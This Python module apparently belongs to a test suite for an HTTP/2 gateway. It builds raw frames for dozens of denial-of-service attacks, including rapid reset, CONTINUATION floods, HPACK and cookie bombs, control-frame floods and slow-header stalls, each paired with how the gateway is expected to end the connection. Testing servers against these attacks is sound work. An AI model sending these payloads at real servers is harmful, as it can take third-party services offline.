"""What a client of HTTP/2 can do that costs work and brings nothing: each attack as the bytes that it
sends, of as many frames as it is told."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from .frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY,
    PRIORITY_UPDATE, RESET, SETTINGS, WINDOW, Attacker, block, bytes_of, frame, literal)

# What a gateway may send in the way of requests for one connection: its concurrent streams.
STREAMS = 100
# What attackers ask for: counted at the server, and larger than any window.
PATH, LARGE = "/attack", "/attack/large"
# Frames that are sent at once.
BATCH = 8000

ACKNOWLEDGED = frame(SETTINGS, 1, 0)
# The settings and the frame that open all of a client's windows, and one that closes them.
OPEN = ACKNOWLEDGED + (frame(SETTINGS, 0, 0, b"\0\x04\x7f\xff\xff\xff")
        + frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535)))
CLOSED = ACKNOWLEDGED + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")


def rapid_reset(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(RESET, 0, one.stream, b"\0\0\0\x08")


def rapid_reset_of_uploads(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield (one.request(path=PATH, flags=END_HEADERS, method="POST")
               + frame(DATA, 0, one.stream, b"x" * 100)
               + frame(RESET, 0, one.stream, b"\0\0\0\x08"))


def rapid_reset_of_protocols(one: Attacker, count: int) -> Iterator[bytes]:
    """Of extended CONNECT (RFC 8441), for which servers switch protocols."""
    for _ in range(count):
        yield one.request(path=PATH, flags=END_HEADERS, method="CONNECT", fields=[
            (":protocol", "websocket")]) + frame(RESET, 0, one.stream, b"\0\0\0\x08")


def made_to_reset_by_window(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(WINDOW, 0, one.stream, b"\0\0\0\0")


def made_to_reset_by_overflow(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(WINDOW, 0, one.stream, b"\x7f\xff\xff\xff")


def made_to_reset_by_data(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(DATA, 0, one.stream, b"x")


def made_to_reset_by_priority(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(PRIORITY, 0, one.stream, b"\0\0\0\0")


def made_to_reset_by_headers(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH) + frame(
            HEADERS, END_HEADERS | END_STREAM, one.stream, literal("x", "y"))


def made_to_reset_by_length(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield (one.request(path=PATH, flags=END_HEADERS, method="POST", fields=[
            ("content-length", "9")]) + frame(DATA, END_STREAM, one.stream, b"x"))


def malformed_heads(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(), literal("Connection", "close"))


def empty_heads(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next())


def streams_beyond_the_limit(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield one.request(path=PATH, flags=END_HEADERS, method="POST")


def continuations(one: Attacker, count: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, one.next(), block(one.authority))
    for _ in range(count):
        yield frame(CONTINUATION, 0, one.stream, literal("x-more", "y" * 50))


def empty_continuations(one: Attacker, count: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, one.next(), block(one.authority))
    for _ in range(count):
        yield frame(CONTINUATION, 0, one.stream)


def compression_bombs(one: Attacker, count: int) -> Iterator[bytes]:
    """A large entry of the table, referred to thousands of times by each head."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                block(one.authority) + b"\x40" + bytes_of(b"x") + bytes_of(b"y" * 3900))
    for _ in range(count // 5):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                    block(one.authority) + b"\xbe" * 8000)


def cookie_bombs(one: Attacker, count: int) -> Iterator[bytes]:
    """The same with the field whose lines are joined."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                block(one.authority) + b"\x60" + bytes_of(b"y" * 3900))
    for _ in range(count // 5):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                    block(one.authority) + b"\xbe" * 8000)


def small_field_bombs(one: Attacker, count: int) -> Iterator[bytes]:
    """The fields of a head are as many, and as small, as a frame holds."""
    for _ in range(count // 5):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                    block(one.authority) + b"\x90" * 16_000)


def table_changes(one: Attacker, count: int) -> Iterator[bytes]:
    """Each head fills the decoder's table anew."""
    for number in range(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                    b"\x20\x3f\xe1\x1f" + block(one.authority) + b"\x40" + bytes_of(b"x")
                    + bytes_of(b"y" * 1000 + str(number).encode()))


def pings(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(PING, 0, 0, b"12345678")


def settings(one: Attacker, count: int) -> Iterator[bytes]:
    for number in range(count):
        yield frame(SETTINGS, 0, 0, b"\0\x04" + struct.pack(">I", 1000 + number % 100))


def long_settings(one: Attacker, count: int) -> Iterator[bytes]:
    """As many settings as a frame holds, which change the windows of open streams and the table."""
    for _ in range(STREAMS):
        yield one.request(path=PATH, flags=END_HEADERS, method="POST")
    for _ in range(count // 5):
        yield frame(SETTINGS, 0, 0, (b"\0\x04\0\0\0\x01\0\x01\0\0\0\0\0\x04\0\0\0\x02"
                                     b"\0\x01\0\0\x10\0") * 682)


def priorities(one: Attacker, count: int) -> Iterator[bytes]:
    for number in range(4 * count):
        yield frame(PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10")


def priority_updates(one: Attacker, count: int) -> Iterator[bytes]:
    for number in range(4 * count):
        yield frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 2 * number + 1) + b"u=1, i")


def unknown_frames(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(4 * count):
        yield frame(0xFA, 0, 0, b"x")


def empty_unknown_frames(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(4 * count):
        yield frame(0xFA, 0, 0)


def empty_data(one: Attacker, count: int) -> Iterator[bytes]:
    yield one.request(path=PATH, flags=END_HEADERS, method="POST")
    for _ in range(count):
        yield frame(DATA, 0, one.stream)


def tiny_data(one: Attacker, count: int) -> Iterator[bytes]:
    yield one.request(path=PATH, flags=END_HEADERS, method="POST")
    for _ in range(count):
        yield frame(DATA, 0, one.stream, b"x")


def padding(one: Attacker, count: int) -> Iterator[bytes]:
    yield one.request(path=PATH, flags=END_HEADERS, method="POST")
    for _ in range(count // 15):
        yield frame(DATA, PADDED, one.stream, bytes([255]) + bytes(255))


def padded_heads(one: Attacker, count: int) -> Iterator[bytes]:
    yield one.request(path=PATH, flags=END_HEADERS, method="POST")
    for _ in range(count):
        yield frame(HEADERS, PADDED | END_HEADERS | END_STREAM, one.next(),
                    b"\xff" + block(one.authority) + bytes(255))


def tiny_windows(one: Attacker, count: int) -> Iterator[bytes]:
    yield CLOSED + one.request(path=LARGE)
    for _ in range(count):
        yield frame(WINDOW, 0, one.stream, b"\0\0\0\x01")


def stalled_windows(one: Attacker, count: int) -> Iterator[bytes]:
    """As many responses as streams, none of which may be sent."""
    yield CLOSED
    for _ in range(STREAMS):
        yield one.request(path=LARGE)


def useless_windows(one: Attacker, count: int) -> Iterator[bytes]:
    """The same, and the connection's window, of which there is enough, opened again and again."""
    yield from stalled_windows(one, count)
    for _ in range(count):
        yield frame(WINDOW, 0, 0, b"\0\0\0\x01")


def goaways(one: Attacker, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(GOAWAY, 0, 0, bytes(8))


def slow_heads(one: Attacker, count: int) -> Iterator[bytes]:
    """A head of which a byte comes now and then."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, one.next(),
                block(one.authority) + bytes(4000))[:100]
    while not one.ended.wait(0.02):
        yield b"\0"


def slow_continuations(one: Attacker, count: int) -> Iterator[bytes]:
    """A head of which a frame comes now and then."""
    yield frame(HEADERS, 0, one.next(), block(one.authority))
    while not one.ended.wait(0.05):
        yield frame(CONTINUATION, 0, one.stream, literal("x-more", "y"))


def never_reads(one: Attacker, count: int) -> Iterator[bytes]:
    """As many large responses as streams, with open windows."""
    yield OPEN
    for _ in range(STREAMS):
        yield one.request(path=LARGE)


def never_reads_answers(one: Attacker, count: int) -> Iterator[bytes]:
    """Small responses, one after the other."""
    for _ in range(count):
        yield one.request()


@dataclass
class Attack:
    send: Callable[[Attacker, int], Iterator[bytes]]
    # How it ends: by its count, `budget`; by `time`, with the timeouts of CONFIGURATION, which end
    # the connection or, `streams`, all of its streams; or not at all, `none`.
    end: str = "budget"
    # Whether what comes back is read.
    reads: bool = True

    @property
    def name(self) -> str:
        return self.send.__name__

    def run(self, one: Attacker, count: int) -> None:
        """Sends it, in batches unless it takes its time, until the connection is ended."""
        batch = 1 if self.name.startswith("slow") else BATCH
        pending = b""
        for part in self.send(one, count):
            pending += part
            if len(pending) >= batch:
                if not one.send(pending):
                    return
                pending = b""
        one.send(pending)


def is_over(one: Attacker) -> bool:
    """Whether its connection is ended, or as many of its streams as it may have."""
    return one.ended.is_set() or len(one.frames(RESET)) >= STREAMS


# What a gateway's configuration has for them.
CONFIGURATION: dict = {"timeouts": {"head": "1s", "body": "2s"}}

ATTACKS = [
    Attack(rapid_reset), Attack(rapid_reset_of_uploads), Attack(rapid_reset_of_protocols),
    Attack(made_to_reset_by_window), Attack(made_to_reset_by_overflow), Attack(made_to_reset_by_data, "none"),
    Attack(made_to_reset_by_priority), Attack(made_to_reset_by_headers, "none"),
    Attack(made_to_reset_by_length), Attack(malformed_heads), Attack(empty_heads),
    Attack(streams_beyond_the_limit, "none"), Attack(continuations), Attack(empty_continuations),
    Attack(compression_bombs), Attack(cookie_bombs), Attack(small_field_bombs),
    Attack(table_changes, "none"), Attack(pings), Attack(settings), Attack(long_settings),
    Attack(priorities), Attack(priority_updates), Attack(unknown_frames),
    Attack(empty_unknown_frames), Attack(empty_data), Attack(tiny_data, "none"),
    Attack(padding, "none"), Attack(padded_heads, "none"), Attack(tiny_windows),
    Attack(stalled_windows, "streams"), Attack(useless_windows, "none"), Attack(goaways),
    Attack(slow_heads, "time"), Attack(slow_continuations, "time"),
    Attack(never_reads, "time", reads=False), Attack(never_reads_answers, "none", reads=False)]
